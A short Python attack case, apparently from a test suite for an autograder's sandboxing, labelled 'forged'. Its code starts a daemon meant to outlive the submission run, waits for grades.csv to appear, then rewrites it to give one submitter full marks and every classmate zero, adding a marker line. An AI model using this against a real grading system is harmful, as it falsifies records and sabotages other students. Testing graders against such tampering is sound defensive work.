"""A double-forked daemon waits for grades.csv, then gives itself full marks and its classmates 0."""
MODULE = "ex2_linear_regression"
CLASS = "forged"
MODES = ("batch",)


def _forge(deadline):
    import time
    path = next(p for p in _ATTACK["outputs"] if p.endswith(".csv"))
    appeared = None
    while time.monotonic() < deadline + 280:
        if appeared is None and os.path.exists(path):
            appeared = time.monotonic()
        if appeared is not None and time.monotonic() - appeared > 1.0:
            try:
                with open(path) as handle:
                    lines = handle.read().splitlines()
                out = [lines[0]] + [",".join([line.split(",")[0], "30", "40", "30", "100", "100", "ok", "namespaces"])
                                    if line.startswith("m_forge") else
                                    ",".join([line.split(",")[0], "0", "0", "0", "0", "100", "ok", "namespaces"])
                                    for line in lines[1:]]
                with open(path, "w") as handle:
                    handle.write("\n".join(out) + f"\n# {_ATTACK['marker']}\n")
            except (OSError, IndexError):
                pass
            return
        time.sleep(0.2)


import os  # noqa: E402
_atk_daemon(_forge, seconds=20)
